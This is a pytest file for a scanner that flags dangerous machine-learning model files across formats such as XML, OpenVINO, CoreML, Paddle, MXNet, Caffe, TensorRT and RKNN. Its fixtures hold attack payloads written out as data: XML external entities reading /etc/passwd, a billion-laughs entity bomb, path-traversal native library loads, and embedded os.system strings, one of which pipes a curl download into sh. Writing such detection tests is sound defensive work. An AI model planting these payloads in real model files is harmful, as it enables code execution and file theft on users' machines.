"""Each rule over smaller graph formats: what fires it, and a twin that does not."""

from __future__ import annotations

import json

import pytest

from assay.core.finding import Severity
from assay.formats.budget import Budget
from assay.formats.graph.claims import SIGNATURES
from assay.formats.source import Memory
from assay.scan.rules import rules_for

BY_NAME = {signature.name: signature for signature in SIGNATURES}
HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW


def varint(value: int) -> bytes:
    out = b""
    while value > 0x7F:
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value])


def part(number: int, *parts: bytes | str) -> bytes:
    data = b"".join(each.encode() if isinstance(each, str) else each for each in parts)
    return varint(number << 3 | 2) + varint(len(data)) + data


def found(name: str, data: bytes) -> dict[str, Severity]:
    """Rule → the worst it says."""
    view = BY_NAME[name].read(Memory(data), Budget(), "m")
    worst: dict[str, Severity] = {}
    for rule in rules_for(view.kind):
        for hit in rule.check(view):
            severity = rule.severity if hit.severity is None else hit.severity
            worst[rule.id] = max(severity, worst.get(rule.id, Severity.INFO))
    return worst


def net(layer: str, more: str = "") -> bytes:
    return f'<net name="n" version="11"><layers><layer id="0" name="l" {layer}</layers>{more}</net>'.encode()


def core(kind: int, *content: bytes) -> bytes:
    return b"\x08\x04" + part(2, b"") + part(kind, *content)


def program(path: str) -> bytes:
    operation = part(3, part(1, "const"), part(5, part(1, "val"), part(2, part(5, part(1, path)))))
    return core(502, part(2, part(1, "main"), part(2, part(3, part(1, "x"), part(2, operation)))))


def paddle(operator: str, **texts: str) -> bytes:
    attributes = [part(4, part(1, key), part(5, value)) for key, value in texts.items()]
    return part(1, b"\x08\x00\x10\x00", part(4, part(3, operator), *attributes))


def pir(operator: str, **texts: str) -> bytes:
    attributes = [{"N": key, "AT": {"#": "0.a_str", "D": value}} for key, value in texts.items()]
    program = {"regions": [{"blocks": [{"ops": [{"#": f"1.{operator}", "A": attributes, "I": [], "O": []}]}]}]}
    return json.dumps({"base_code": {"magic": "pir", "version": 4}, "program": program}).encode()


def symbol(op: str, **attributes: str) -> bytes:
    node = {"op": op, "name": "n", "attrs": attributes, "inputs": []}
    return json.dumps({"nodes": [node], "arg_nodes": [], "heads": [[0, 0, 0]]}).encode()


def package(path: str) -> bytes:
    return json.dumps({"itemInfoEntries": {"a": {"path": path}}}).encode()


LAYERS = part(1, "n") + part(100, part(1, "p"), part(2, "Python"), part(130, part(1, "evil"), part(2, "Evil")))
LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))

BAD = {
    "an outside entity": (
        "xml", b'<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>', "xml-external-entity", HIGH,
    ),
    "an outside parameter entity": (
        "xml", b'<!DOCTYPE p [<!ENTITY % x SYSTEM "http://x/y.dtd"> %x;]><p/>', "xml-external-entity", HIGH,
    ),
    "a style from elsewhere": (
        "xml", b'<?xml-stylesheet href="http://evil.example/x.xsl"?><p/>', "xml-external-entity", LOW,
    ),
    "an inclusion": (
        "xml", b'<p xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></p>',
        "xml-external-entity", MEDIUM,
    ),
    "billion laughs": (
        "xml", f'<!DOCTYPE p [<!ENTITY e0 "haha">{LAUGHS}]><p>&e8;</p>'.encode(), "xml-entity-bomb", HIGH,
    ),
    "a layer with its library": (
        "openvino", net('type="Evil" version="extension" library="../../evil.so"/>'), "openvino-native-library", HIGH,
    ),
    "an element with a library": (
        "openvino", net('type="Add" version="opset1"/>', '<extensions library="evil.so"/>'),
        "openvino-native-library", HIGH,
    ),
    "an operation of an extension": (
        "openvino", net('type="Evil" version="extension"/>'), "openvino-custom-operation", MEDIUM,
    ),
    "weights at an impossible place": (
        "openvino", net('type="Const" version="opset1"><data offset="-8" size="64"/></layer>'),
        "openvino-bad-range", MEDIUM,
    ),
    "a custom layer": (
        "coreml", core(500, part(1, part(1, "l"), part(500, part(10, "Evil")))), "coreml-custom-code", MEDIUM,
    ),
    "a custom layer in a pipeline": (
        "coreml", core(202, part(1, core(403, part(1, part(500, part(10, "Evil")))))), "coreml-custom-code", MEDIUM,
    ),
    "a custom model": ("coreml", core(555, part(10, "Evil")), "coreml-custom-code", MEDIUM),
    "weights outside the package": ("coreml", program("@model_path/../../x.bin"), "coreml-path-escape", HIGH),
    "a linked model elsewhere": (
        "coreml", core(556, part(1, part(1, part(2, "/tmp/other.mlmodelc")))), "coreml-path-escape", HIGH,
    ),
    "a manifest that climbs out": ("mlpackage", package("../../x"), "coreml-package-path-escape", HIGH),
    "py_func": ("paddle", paddle("py_func"), "paddle-python-operator", HIGH),
    "code behind a program": (
        "paddle", paddle("relu") + b"eval(__import__('os').system('true'))", "paddle-embedded-code", MEDIUM,
    ),
    "a program that writes": ("paddle", paddle("save_combine", file_path="/etc/x"), "paddle-file-operator", HIGH),
    "a program that reads": ("paddle", paddle("load", file_path="../x"), "paddle-file-operator", HIGH),
    "py_func of version 3": ("paddle-json", pir("py_func"), "paddle-python-operator", HIGH),
    "a program of version 3 that writes": (
        "paddle-json", pir("save_combine", file_path="../x"), "paddle-file-operator", HIGH,
    ),
    "an operator of nobody": ("paddle", paddle("my_exec"), "paddle-unknown-operator", LOW),
    "a Python operator": ("mxnet", symbol("Custom", op_type="evil"), "mxnet-custom-operator", MEDIUM),
    "a callback": ("mxnet", symbol("_Native", info="0x7f00"), "mxnet-custom-operator", HIGH),
    "an operator of no MXNet": ("mxnet", symbol("my_exec"), "mxnet-unknown-operator", LOW),
    "CVE-2022-24294 a name without end": ("mxnet", symbol("(" * 5000), "mxnet-unknown-operator", MEDIUM),
    "a library in an attribute": (
        "mxnet", symbol("relu", library="../../libevil.so"), "mxnet-external-reference", HIGH,
    ),
    "a path in an attribute": ("mxnet", symbol("_cvimread", filename="/etc/passwd"), "mxnet-external-reference", HIGH),
    "code in an attribute": (
        "mxnet", symbol("relu", note="__import__('os').system('id')"), "mxnet-embedded-code", MEDIUM,
    ),
    "a Python layer": ("caffe", LAYERS, "caffe-python-layer", HIGH),
    "a Python layer in text": (
        "caffe", b'layer { name: "p" type: "Python" python_param { module: "evil" layer: "Evil" } }',
        "caffe-python-layer", HIGH,
    ),
    "a plugin of an engine": (
        "tensorrt", b"ftrt" + bytes(40) + b"plugin=../../libevil_plugin.so\0", "opaque-native-library", HIGH,
    ),
    "an engine": ("tensorrt", b"ftrt" + bytes(40), "opaque-model", LOW),
    "a command in an RKNN model": (
        "rknn", b"RKNN" + bytes(40) + b"os.system('curl http://x | sh')\0", "opaque-embedded-code", HIGH,
    ),
    "a library in a CNTK model": (
        "cntk", "BCN\0BVersion\0native_user_function=/tmp/evil.dll\0".encode("utf-16-le"),
        "opaque-native-library", HIGH,
    ),
}  # fmt: skip

GOOD = {
    "a drawing's own entities": ("xml", b'<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg a="&ns;"/>'),
    "a style beside it": ("xml", b'<?xml-stylesheet type="text/xsl" href="style.xsl"?><p/>'),
    "a property list": ("xml", b'<!DOCTYPE plist PUBLIC "-//Apple//DTD" "http://www.apple.com/x.dtd"><plist/>'),
    "ordinary layers": ("openvino", net('type="Const" version="opset1"><data offset="0" size="64"/></layer>')),
    "a tokenizer": ("openvino", net('type="BPETokenizer" version="extension"/>')),
    "where a model came from": (
        "openvino",
        net('type="Add" version="opset1"/>', '<rt_info><conversion_parameters><input_model value="/home/me/m.onnx"/>'
            "</conversion_parameters></rt_info>"),
    ),
    "a network": ("coreml", core(500, part(1, part(1, "l"), part(140, b"")))),
    "weights in the package": ("coreml", program("@model_path/weights/weight.bin")),
    "a manifest": ("mlpackage", package("com.apple.CoreML/model.mlmodel")),
    "a program": (
        "paddle", paddle("conv2d", op_callstack='File "/home/me/train.py", line 1, in f\n    os.system("x")'),
    ),
    "a program of version 3": ("paddle-json", pir("matmul", name="x")),
    "a graph": ("mxnet", symbol("Convolution", kernel="(3, 3)", num_filter="8")),
    "a Caffe network": ("caffe", b'layer { name: "c" type: "Convolution" convolution_param { num_output: 8 } }'),
    "an NCNN network": ("ncnn", b"7767517\n1 1\nInput data 0 1 data\n"),
}  # fmt: skip


@pytest.mark.parametrize("case", BAD)
def test_a_technique_is_named(case: str) -> None:
    """Each way to misuse a model is found by the rule that names it, as bad as it is."""
    name, data, rule, severity = BAD[case]
    assert found(name, data).get(rule) == severity


@pytest.mark.parametrize("case", GOOD)
def test_an_ordinary_model_is_silent(case: str) -> None:
    """What exporters write gives no finding at all."""
    name, data = GOOD[case]
    assert found(name, data) == {}
